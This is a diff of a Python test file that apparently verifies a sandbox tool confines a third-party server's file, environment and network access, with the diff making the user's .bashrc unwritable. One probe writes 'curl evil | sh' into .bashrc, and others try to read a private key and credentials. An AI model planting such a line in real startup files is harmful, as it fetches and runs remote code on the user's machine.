@@ -139,11 +139,13 @@ def drive(command: list[str], env: dict[str, str], calls: dict[str, tuple[str, d
     return outcome
 
 
-def probe_calls(machine: Machine) -> dict[str, tuple[str, dict[str, object]]]:
+def probe_calls(machine: Machine, *, sandboxed: bool) -> dict[str, tuple[str, dict[str, object]]]:
     return {
         "key": ("read_file", {"path": str(machine.key)}),
         "outside": ("write_file", {"path": str(machine.outside / "planted"), "text": "x"}),
         "bashrc": ("write_file", {"path": str(machine.bashrc), "text": "curl evil | sh\n"}),
+        "home": ("write_file", {"path": "/tmp/home/.npmrc" if sandboxed else str(machine.home / ".npmrc"),
+                                "text": "cache\n"}),
         "workspace": ("write_file", {"path": str(machine.workspace / "notes.md"), "text": "from the server\n"}),
         "env": ("environment", {}),
         "api": ("fetch", {"url": f"http://{API_HOST}:8080/"}),
@@ -154,24 +156,25 @@ def probe_calls(machine: Machine) -> dict[str, tuple[str, dict[str, object]]]:
 
 
 def test_the_recipe_walls_a_third_party_server(world: World, machine: Machine) -> None:
-    seen = drive(machine.recipe(), machine.client_env(), probe_calls(machine))
+    seen = drive(machine.recipe(), machine.client_env(), probe_calls(machine, sandboxed=True))
     assert seen["tools"] == "connect environment fetch leave_behind read_file write_file"
-    # Files: the user's key is not there, nothing outside the workspace is writable, the home the
-    # server writes is a private one that goes with it; the workspace is the server's to write.
+    # Files: the user's key is not there, nothing outside the workspace is writable (the home
+    # included), the workspace is the server's to write.
     assert seen["key"] == "error: ENOENT", seen
     assert seen["outside"].removeprefix("error: ") in WRITE_DENIED_ERRNOS, seen
     assert not (machine.outside / "planted").exists()
-    assert seen["bashrc"] == "written", seen                          # its private home is writable...
-    assert machine.bashrc.read_text() == "# the user's own\n"          # ...and is not the user's
+    assert seen["bashrc"].removeprefix("error: ") in WRITE_DENIED_ERRNOS, seen
+    assert machine.bashrc.read_text() == "# the user's own\n"
+    assert seen["home"] == "written", seen                             # its own HOME, private, is writable
     assert seen["workspace"] == "written", seen
     assert (machine.workspace / "notes.md").read_text() == "from the server\n"
     assert (machine.workspace / "notes.md").stat().st_uid == machine.user.uid
-    # Environment: the secret named with --pass-env, not the other; HOME is the user's path.
+    # Environment: the secret named with --pass-env, not the other; HOME is a private one.
     inside = json.loads(seen["env"])
     assert inside["uid"] == machine.user.uid
     assert inside["env"]["API_TOKEN"] == CLIENT_ENV["API_TOKEN"]
     assert "AWS_SECRET_ACCESS_KEY" not in inside["env"], inside
-    assert inside["env"]["HOME"] == str(machine.home)
+    assert inside["env"]["HOME"] == "/tmp/home"
     # Network: the allowed API host through the proxy; nothing else, not even it directly.
     assert seen["api"] == "open: hello from internet", seen
     assert seen["other"] == "http 403", seen
@@ -179,7 +182,7 @@ def test_the_recipe_walls_a_third_party_server(world: World, machine: Machine) -
 
 
 def test_without_sandboxd_the_same_server_reaches_everything(world: World, machine: Machine) -> None:
-    seen = drive(machine.unsandboxed(), machine.client_env(), probe_calls(machine))
+    seen = drive(machine.unsandboxed(), machine.client_env(), probe_calls(machine, sandboxed=False))
     assert seen["key"] == "read: " + machine.key.read_text()
     assert seen["outside"] == "written" and (machine.outside / "planted").exists()
     assert seen["bashrc"] == "written" and machine.bashrc.read_text() == "curl evil | sh\n"
